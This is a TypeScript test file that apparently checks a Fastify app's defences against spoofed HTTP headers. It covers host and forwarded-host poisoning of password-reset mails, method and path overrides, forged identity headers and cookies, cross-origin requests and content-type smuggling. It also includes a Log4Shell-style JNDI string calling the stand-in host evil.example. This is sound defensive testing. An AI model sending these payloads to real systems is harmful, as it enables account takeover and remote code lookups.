import type { InjectOptions } from 'fastify';
import { expect, test } from 'vitest';
import { startSharedTestApp } from '../testing/test-app.ts';

type Headers = Record<string, string>;

/** No proxy is named in the settings, so nobody is believed about who they forward for. */
const app = await startSharedTestApp();
const ada = await app.person('ada');
const HOST = 'docs.example:3000';
const STRANGER = '198.51.100.7';

const ask = (headers: Headers, options: InjectOptions = {}) =>
  app.http.inject({ method: 'GET', url: '/api/session', remoteAddress: STRANGER, ...options, headers: { host: HOST, ...headers } });
const asAda = (headers: Headers, options: InjectOptions = {}) => ask({ ...ada.headers, ...headers }, options);
const folderNames = async () => (await ada.get('/folders').expect(200)).folders.map(({ name }: { name: string }) => name);

const EVIL = 'evil.example';
const asOtherHost: Headers[] = [
  { host: EVIL }, { host: `${HOST}@${EVIL}` }, { 'x-forwarded-host': EVIL }, { 'x-host': EVIL }, { 'x-original-host': EVIL }, { 'x-forwarded-server': EVIL },
  { 'x-http-host-override': EVIL }, { forwarded: `host=${EVIL};proto=http` }, { referer: `https://${EVIL}/` }, { 'x-forwarded-port': '666' }, { 'x-forwarded-prefix': '/evil' },
];
const asOtherMethod: Headers[] = [
  { 'x-http-method-override': 'DELETE' }, { 'x-http-method': 'DELETE' }, { 'x-method-override': 'DELETE' }, { 'x-method': 'DELETE' }, { 'x-override-method': 'DELETE' },
];
const asOtherPath: Headers[] = [
  { 'x-original-url': '/api/folders' }, { 'x-rewrite-url': '/api/folders' }, { 'x-override-url': '/api/folders' }, { 'x-forwarded-uri': '/api/folders' },
  { 'x-original-uri': '/api/folders' }, { 'x-forwarded-path': '/api/folders' },
];
const asOtherPerson: Headers[] = [
  { 'x-user-id': ada.userId }, { 'x-forwarded-user': ada.userId }, { 'x-remote-user': ada.userId }, { 'remote-user': ada.userId }, { 'x-authenticated-user': ada.userId },
  { 'x-forwarded-email': 'ada@example.com' }, { 'x-auth-request-email': 'ada@example.com' }, { authorization: `Basic ${btoa('ada@example.com:')}` },
  { authorization: `Bearer ${ada.userId}` }, { authorization: `Bearer ${ada.headers.cookie.split('=')[1]}` }, { cookie: `scriba_user=${ada.userId}` },
  { cookie: `__Host-${ada.headers.cookie}` }, { cookie: ada.headers.cookie.toUpperCase() }, { cookie: `${ada.headers.cookie}x` },
  { cookie: `scriba_session=wrong; ${ada.headers.cookie.replace('=', '%3D')}` }, { 'x-scriba-session': ada.headers.cookie.split('=')[1] ?? '' },
];
const asHttps: Headers[] = [
  { 'x-forwarded-proto': 'https' }, { 'x-forwarded-protocol': 'https' }, { 'x-forwarded-scheme': 'https' }, { 'x-url-scheme': 'https' }, { 'x-forwarded-ssl': 'on' },
  { 'front-end-https': 'on' }, { forwarded: 'proto=https' }, { 'cloudfront-forwarded-proto': 'https' },
];
const asLocal: Headers[] = [
  { 'x-forwarded-for': '127.0.0.1' }, { 'x-forwarded-for': '::1' }, { 'x-real-ip': '127.0.0.1' }, { 'x-client-ip': '127.0.0.1' }, { 'true-client-ip': '127.0.0.1' },
  { 'cf-connecting-ip': '127.0.0.1' }, { 'x-cluster-client-ip': '127.0.0.1' }, { forwarded: 'for=127.0.0.1' }, { host: 'localhost' }, { host: '127.0.0.1' },
];
const fromElsewhere: Headers[] = [
  { origin: `http://${HOST}, http://${EVIL}` }, { origin: `http://${HOST}@${EVIL}` }, { origin: `http://${EVIL}:3000` }, { origin: 'http://docs.example' }, { origin: 'file://' }, { origin: '' },
  { origin: `chrome-extension://${EVIL}` }, { origin: 'about:blank' }, { origin: `//${HOST}` }, { origin: HOST }, { origin: `http://${HOST}.` }, { origin: `http://${HOST}\\@${EVIL}` },
  { 'sec-fetch-site': 'Same-Origin' }, { 'sec-fetch-site': 'cross-origin' }, { 'sec-fetch-site': 'same-origin, cross-site' }, { 'sec-fetch-site': '' }, { 'sec-fetch-site': 'none;cross-site' },
  { origin: `http://${HOST}`, 'sec-fetch-site': 'cross-site' }, { origin: `http://${EVIL}`, 'sec-fetch-site': 'same-origin' },
  { origin: `http://${EVIL}`, 'x-forwarded-host': EVIL }, { origin: `http://${EVIL}`, 'x-requested-with': 'XMLHttpRequest' }, { origin: `http://${EVIL}`, referer: `http://${HOST}/` },
];
const asOtherContent: Headers[] = [
  { 'content-type': 'text/plain' }, { 'content-type': 'text/plain; charset=application/json' }, { 'content-type': 'text/plain;application/json' }, { 'content-type': 'text/json' },
  { 'content-type': 'application/x-www-form-urlencoded' }, { 'content-type': 'application/x-www-form-urlencoded; application/json' }, { 'content-type': 'multipart/form-data; boundary=application/json' },
  { 'content-type': 'application/csp-report' }, { 'content-type': 'application/jsonp' }, { 'content-type': 'application/xml' }, { 'content-type': 'text/xml' }, { 'content-type': '' },
  { 'content-type': 'application/octet-stream' }, { 'content-type': '*/*' }, { 'content-type': 'image/png' }, { 'content-type': 'application/json, text/plain', 'content-encoding': 'gzip' },
];
const nonsense: Headers[] = [
  { 'accept-language': 'x'.repeat(4000) }, { 'accept-language': '*;q=1e9,,;;' }, { accept: 'application/x-java' }, { range: 'bytes=0-0' }, { range: 'bytes=-1,-2,-3' }, { 'if-none-match': '*' },
  { 'if-modified-since': 'Thu, 01 Jan 2099 00:00:00 GMT' }, { te: 'trailers' }, { upgrade: 'h2c', connection: 'upgrade, http2-settings' }, { 'user-agent': '${jndi:ldap://evil.example/a}' }, { 'user-agent': '' },
  { 'x-request-id': '<script>' }, { cookie: ';=;;scriba_session;=' }, { cookie: Array.from({ length: 200 }, (_, nth) => `c${nth}=x`).join('; ') }, { '__proto__x': 'x', constructor: 'x' },
];
const named = (all: Headers[]) => all.map((headers) => [JSON.stringify(headers).slice(0, 100), headers] as const);

test.each(named(asOtherHost))('%s leads nobody to another host, by no link of a mail and no header', async (_name, headers) => {
  const before = app.mails.length;
  const email = `person${before}@example.com`;
  await app.person(`person${before}`);
  const answer = await ask({ ...headers, 'content-type': 'application/json' }, { method: 'POST', url: '/api/auth/forgot-password', payload: { email } });
  expect(answer.statusCode, answer.body).toBeLessThan(300);
  const { text, html } = await app.eventually('the mail is sent', async () => app.mails.find((mail) => mail.to === email));
  expect(text).toContain(`${app.world.publicUrl}/auth/action?`);
  expect(`${text}${html}${JSON.stringify(answer.headers)}${answer.body}`).not.toMatch(/evil|:666/);
});

test.each(named(asOtherMethod))('%s makes no other method of a call', async (_name, headers) => {
  const { folder } = await ada.post('/folders', { name: Object.keys(headers).join() }).expect(201);
  for (const method of ['GET', 'POST', 'PATCH'] as const) {
    await asAda({ ...headers, 'content-type': 'application/json' }, { method, url: `/api/folders/${folder.id}?_method=DELETE`, ...(method !== 'GET' && { payload: { _method: 'DELETE' } }) });
  }
  expect(await folderNames()).toContain(folder.name);
});

test.each(named(asOtherPath))('%s asks for no other address', async (_name, headers) => {
  const { statusCode, json } = await asAda(headers, { url: '/api/health/live' });
  expect([statusCode, Object.keys(json())]).toEqual([200, expect.not.arrayContaining(['folders'])]);
  expect((await ask(headers, { url: '/api/no/such/route' })).statusCode).toBe(404);
});

test.each(named(asOtherPerson))('%s makes nobody of a stranger', async (_name, headers) => {
  expect((await ask(headers)).json().user).toBeNull();
  expect((await ask(headers, { url: '/api/folders' })).json().code).toBe('auth.required');
});

test.each(named(asHttps))('%s is no https where no proxy is believed', async (_name, headers) => {
  const { cookies } = await asAda(headers, { method: 'POST', url: '/api/session/refresh' });
  expect(cookies.map(({ name, secure }) => [name, secure])).toEqual([['scriba_session', undefined]]);
});

test.each(named(asLocal))('%s is not this machine', async (_name, headers) => {
  expect((await ask(headers)).json().isInsecureConnection).toBe(true);
});

test.each(named(fromElsewhere))('%s comes from another site, and changes nothing', async (_name, headers) => {
  const { statusCode, json } = await asAda({ ...headers, 'content-type': 'application/json' }, { method: 'POST', url: '/api/folders', payload: { name: 'Planted' } });
  expect([statusCode, json().code]).toEqual([403, 'request.foreign_origin']);
  expect(await folderNames()).not.toContain('Planted');
});

test.each(named(asOtherContent))('%s is not taken for JSON', async (_name, headers) => {
  const { statusCode, json } = await asAda(headers, { method: 'POST', url: '/api/folders', payload: '{"name":"Smuggled"}' });
  expect(statusCode).toBeGreaterThanOrEqual(400);
  expect(statusCode).toBeLessThan(500);
  expect(json().code).toMatch(/^request\./);
  expect(await folderNames()).not.toContain('Smuggled');
});

test.each(named(nonsense))('%s is passed over', async (_name, headers) => {
  const { statusCode, headers: answered, body } = await ask(headers);
  expect(statusCode).toBe(200);
  expect(answered['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
  expect(body).not.toContain('jndi');
});
